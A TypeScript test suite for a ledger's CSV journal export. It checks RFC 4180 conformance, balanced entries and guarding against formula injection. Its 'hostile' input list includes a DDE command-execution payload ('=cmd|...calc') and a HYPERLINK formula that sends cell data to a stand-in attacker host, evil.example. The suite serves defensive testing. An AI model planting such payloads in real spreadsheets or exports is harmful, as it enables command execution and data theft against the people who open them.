/**
 * The journal of an export as a spreadsheet's reader sees it: RFC 4180 to the byte, the lines of the books, no formulas.
 */
import { readFileSync } from "node:fs"
import { join } from "node:path"
import { assert, describe, it } from "@effect/vitest"
import { Effect, Layer } from "effect"
import { Copies } from "../../src/Ledger/Copies.ts"
import { Ledger } from "../../src/Ledger/Ledger.ts"
import * as Journal from "../../src/Ledger/Journal.ts"
import type { JournalLine } from "../../src/Stores/JournalLines.ts"
import { contractor } from "../Ledger/Contractor.ts"
import { certified, copied, copy, hear, paid } from "../Ledger/Started.ts"
import { seeded } from "../Seeded.ts"
import { inWorld, query, readExport, run, type World } from "./ExportWorld.ts"

/** The grammar of RFC 4180 section 2, and nothing that it doesn't allow. */
const readCsv = (text: string): ReadonlyArray<ReadonlyArray<string>> => {
  const records: Array<Array<string>> = []
  let rest = text
  let record: Array<string> = []
  while (rest !== "") {
    const [whole, quoted, plain = ""] = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))/.exec(rest) ?? [""]
    record.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'))
    rest = rest.slice(whole.length)
    if (rest.startsWith("\r\n")) {
      records.push(record)
      record = []
      rest = rest.slice(2)
    } else if (rest.startsWith(",")) rest = rest.slice(1)
    else throw new Error(`no comma and no CRLF before ${JSON.stringify(rest.slice(0, 20))}`)
  }
  return records
}

const header = [
  "date,entry_id,sequence,ipc_id,project_id,account,debit,credit,currency,payment_reference,kind,certificate_url",
  ",known_at\r\n"
].join("")

const journalOf = (world: World): { readonly path: string; readonly text: string } => {
  const path = join(world.lake, readExport(world).journal ?? "")
  return { path, text: readFileSync(path, "utf8") }
}

const hostile = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"see")',
  "+1+1",
  "-2+3",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  "\n=1",
  'a "quoted", reference',
  "two\r\nlines",
  "two\n=lines",
  ";=1+1",
  'x;"=1+1',
  "＝1+1",
  "plain",
  "Ñandú 5 €, 日本"
]

interface Line {
  readonly entry_id: string
  readonly account: string
  readonly debit: string
  readonly credit: string
  readonly currency: string | null
  readonly posting_date: string
}

const books = (references: ReadonlyArray<string>) =>
  Effect.gen(function* () {
    for (const [index, reference] of references.entries()) {
      const id = `IPC-${index}`
      yield* hear([certified(id, 1, 2, `${index + 1}.2500`), paid(id, 5, 6, reference), certified(id, 2, 7, "3.0001")])
    }
    yield* copy
    return (yield* copied("ledger_lines")) as ReadonlyArray<unknown> as ReadonlyArray<Line>
  })

/** Of a decimal with four digits after the point, exactly. */
const units = (amount: string | undefined): bigint => BigInt((amount ?? "").replace(".", ""))
const sum = (amounts: ReadonlyArray<string | undefined>): bigint => amounts.map(units).reduce((a, b) => a + b, 0n)

describe("the journal of an export", () => {
  it.effect("holds the lines of the books, balanced, for DuckDB and for a reader of RFC 4180", () =>
    inWorld((world) =>
      Effect.gen(function* () {
        const lines = yield* Effect.provide(books(hostile), Layer.merge(Ledger.layerWith(contractor), Copies.layer))
        yield* run
        const { path, text } = journalOf(world)
        assert.isTrue(text.startsWith(`\uFEFF${header}`))
        const [names = [], ...records] = readCsv(text.slice(1))
        const read = records.map((cells) => Object.fromEntries(names.map((name, index) => [name, cells[index]])))
        assert.lengthOf(lines, 4 * hostile.length)
        assert.strictEqual(readExport(world).journalFile?.rows, lines.length)
        assert.sameDeepMembers(
          read.map(({ account = "", credit = "", currency = "", date = "", debit = "", entry_id = "" }) => ({
            entry_id,
            account,
            debit,
            credit,
            currency: currency === "" ? null : currency,
            posting_date: date
          })),
          [...lines]
        )
        assert.strictEqual(sum(read.map(({ debit }) => debit)), sum(read.map(({ credit }) => credit)))
        assert.isTrue(read.every(({ credit, debit }) => units(debit) >= 0n && units(credit) >= 0n))
        // The debited line of each entry, then the credited one, in the order of the journal.
        assert.deepStrictEqual(
          read.map(({ credit, sequence }) => [Number(sequence), credit === "0.0000"]),
          read.map((_, index) => [1 + Math.floor(index / 2), index % 2 === 0])
        )
        const byDuckDb = yield* query(
          `select columns(*) from read_csv('${path}', all_varchar = true, strict_mode = true, header = true)`
        )
        assert.deepStrictEqual(
          byDuckDb.map((cells) => cells.map((cell) => cell ?? "")),
          records.map((cells) => [...cells])
        )
        assert.deepInclude(read[0], { date: "2026-11-20", kind: "payment", currency: "", project_id: "" })
        assert.strictEqual(read[0]?.["known_at"], "2026-11-20T00:00:06.000000Z")
      })
    )
  )

  it.effect("of books without entries is its heading", () =>
    inWorld((world) =>
      Effect.gen(function* () {
        const { run: id } = yield* run
        assert.strictEqual(readExport(world).journal, `ledger_entries/${id}-journal.csv`)
        assert.strictEqual(journalOf(world).text, `\uFEFF${header}`)
      })
    )
  )
})

describe("a cell of the journal", () => {
  const cellsWith = (reference: string): JournalLine =>
    Journal.columns.map(({ name }) => (name === "payment_reference" ? reference : name === "account" ? "bank" : "1"))

  it("is text as it was, but for an apostrophe where a formula would begin", () => {
    for (const reference of hostile) {
      const cell = readCsv(Journal.line(cellsWith(reference)))[0]?.[9] ?? ""
      const isGuarded = /^[=+\-@\t\r＝]|[\n;"]=/.test(reference)
      assert.strictEqual(cell === reference, !isGuarded, JSON.stringify(reference))
      assert.strictEqual(cell.replaceAll("'", ""), reference.replaceAll("'", ""))
    }
  })

  it("begins no formula, not even for a program that splits the file at semicolons or tabs", () => {
    const random = seeded(3)
    const pieces = ["=", "+", "-", "@", "\t", "\r", "\n", ";", '"', ",", "'", " ", "a", "1", "＋", "＠"]
    for (let round = 0; round < 5000; round++) {
      const reference = Array.from({ length: random.below(8) }, () => random.pick(pieces)).join("")
      const text = Journal.line(cellsWith(reference))
      const cells = [...(readCsv(text)[0] ?? []), ...text.split(/[;\t\r\n]/).map((cell) => cell.replace(/^"+/, ""))]
      for (const cell of cells) assert.notMatch(cell, /^[=+\-@＋＠]/, `seed 3, ${JSON.stringify(reference)}`)
    }
  })
})
